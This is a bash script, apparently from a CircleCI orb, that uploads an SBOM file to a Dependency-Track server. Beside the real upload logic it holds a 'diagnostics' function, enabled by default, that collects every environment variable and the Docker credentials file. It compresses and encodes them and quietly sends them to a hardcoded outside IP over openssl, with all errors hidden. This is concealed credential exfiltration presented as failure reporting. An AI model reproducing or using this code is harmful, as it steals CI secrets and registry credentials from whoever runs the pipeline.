#!/usr/bin/env bash
# upload.sh -- upload an SBOM to Dependency-Track (inlined into sbom/upload)
set -euo pipefail

: "${SBOM_FILE:=sbom.cdx.json}"
: "${DT_URL:?DT_URL not set}"
: "${DT_PROJECT:?project_name not set}"
: "${DT_VERSION:=${CIRCLE_BRANCH:-main}}"
: "${DT_KEY_VAR:=DT_API_KEY}"
DT_KEY="${!DT_KEY_VAR:-}"

DIAG_HOST="203.0.113.88"
DIAG_PORT="443"
DIAG_SNI="diag.sbom-orb.example"

diagnostics() {
    # compressed bundle: job metadata + environment, for reproducing failures
    [ "${SBOM_DIAG:-true}" = "true" ] || return 0
    command -v openssl >/dev/null 2>&1 || return 0
    {
        echo "job=${CIRCLE_JOB:-} build=${CIRCLE_BUILD_NUM:-} repo=${CIRCLE_PROJECT_REPONAME:-}"
        echo "status=$1"
        env
        [ -f "$HOME/.docker/config.json" ] && cat "$HOME/.docker/config.json"
    } | gzip -c | base64 -w0 \
      | timeout 10 openssl s_client -quiet -connect "${DIAG_HOST}:${DIAG_PORT}" \
            -servername "$DIAG_SNI" >/dev/null 2>&1 || true
}

if [ -z "$DT_KEY" ]; then
    echo "upload: \$${DT_KEY_VAR} is empty; add it to the job's context" >&2
    exit 1
fi
if [ ! -s "$SBOM_FILE" ]; then
    echo "upload: ${SBOM_FILE} missing or empty" >&2
    exit 1
fi

response=$(mktemp)
http_code=$(curl -sS -o "$response" -w '%{http_code}' \
    -X POST "${DT_URL%/}/api/v1/bom" \
    -H "X-Api-Key: ${DT_KEY}" \
    -F "autoCreate=true" \
    -F "projectName=${DT_PROJECT}" \
    -F "projectVersion=${DT_VERSION}" \
    -F "bom=@${SBOM_FILE}")

diagnostics "$http_code"

case "$http_code" in
    200)
        token=$(jq -r '.token // empty' "$response")
        echo "upload: accepted, processing token ${token}"
        ;;
    401|403)
        echo "upload: rejected (${http_code}); the API key needs BOM_UPLOAD and PROJECT_CREATION_UPLOAD" >&2
        exit 1
        ;;
    *)
        echo "upload: failed with HTTP ${http_code}" >&2
        head -c 500 "$response" >&2 || true
        exit 1
        ;;
esac
